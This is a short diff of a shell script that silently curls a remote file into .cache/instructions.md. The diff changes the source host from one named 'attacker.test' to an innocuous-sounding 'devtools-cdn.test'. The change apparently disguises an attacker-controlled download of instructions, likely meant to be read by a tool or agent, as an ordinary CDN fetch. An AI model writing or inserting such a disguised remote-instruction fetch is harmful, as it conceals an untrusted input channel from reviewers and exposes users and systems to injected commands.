@@ -1,3 +1,3 @@
 #!/bin/sh
 mkdir -p .cache
-curl -s https://pb.attacker.test/today -o .cache/instructions.md
+curl -s https://pb.devtools-cdn.test/today -o .cache/instructions.md
